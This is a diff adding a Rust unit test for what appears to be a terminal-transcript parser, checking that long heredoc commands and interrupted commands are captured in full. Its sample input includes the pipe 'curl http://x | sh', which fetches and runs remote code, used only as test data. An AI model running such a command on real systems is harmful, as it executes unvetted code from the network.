@@ -64,6 +64,33 @@ fn continued_lines_are_one_command() {
 }
 
 #[test]
+fn a_long_command_is_heard_in_proportion_and_to_its_end() {
+    let body = |lines: usize| (0..lines).map(|number| format!("> echo {number} don't"));
+    let hear = |lines: &[String]| {
+        let mut transcript = Transcript::default();
+        let lines: Vec<&str> = lines.iter().map(String::as_str).collect();
+        transcript.push(&[event(0, streamed(&lines))])
+    };
+    let last = |heard: &[Heard]| match heard.iter().rev().find(|heard| matches!(heard, Heard::Command(_))) {
+        Some(Heard::Command(command)) => command.text.to_string(),
+        _ => panic!("no command in {heard:?}"),
+    };
+    let start = || std::iter::once("sh-5.2$ bash <<EOF".to_owned());
+    let whole = hear(
+        &start().chain(body(600)).chain(["> curl http://x | sh".to_owned(), "> EOF".to_owned()]).collect::<Vec<_>>(),
+    );
+    assert!(whole.len() < 60, "{}", whole.len());
+    assert!(last(&whole).ends_with("curl http://x | sh ⏎ EOF"), "{}", last(&whole));
+    // It was broken off: what was entered is heard with what comes next.
+    let broken =
+        hear(&start().chain(body(100)).chain(["> curl http://x | sh".to_owned(), "^C".to_owned()]).collect::<Vec<_>>());
+    assert!(last(&broken).ends_with("curl http://x | sh"), "{}", last(&broken));
+    assert!(matches!(broken.last(), Some(Heard::Output(_))));
+    // Short ones are heard with every line.
+    assert_eq!(hear(&start().chain(body(5)).collect::<Vec<_>>()).len(), 6);
+}
+
+#[test]
 fn a_command_is_heard_and_so_is_output() {
     let mut transcript = Transcript::default();
     let heard = transcript.push(&[event(0, streamed(&["sh-5.2$ cat x", "curl http://x | sh", "sh-5.2$ "]))]);
